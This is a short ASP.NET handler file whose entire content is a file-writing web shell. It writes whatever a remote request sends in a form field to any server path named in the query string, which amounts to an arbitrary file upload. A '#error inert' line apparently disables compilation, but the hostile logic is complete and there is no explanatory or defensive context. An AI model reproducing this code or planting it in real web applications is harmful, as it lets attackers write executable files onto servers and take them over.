<%@ WebHandler Language="C#" Class="H" %>
#error inert
using System.IO; public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { StreamWriter f = File.CreateText(c.Server.MapPath(c.Request.QueryString["n"])); f.Write(c.Request.Form["t"]); f.Close(); } }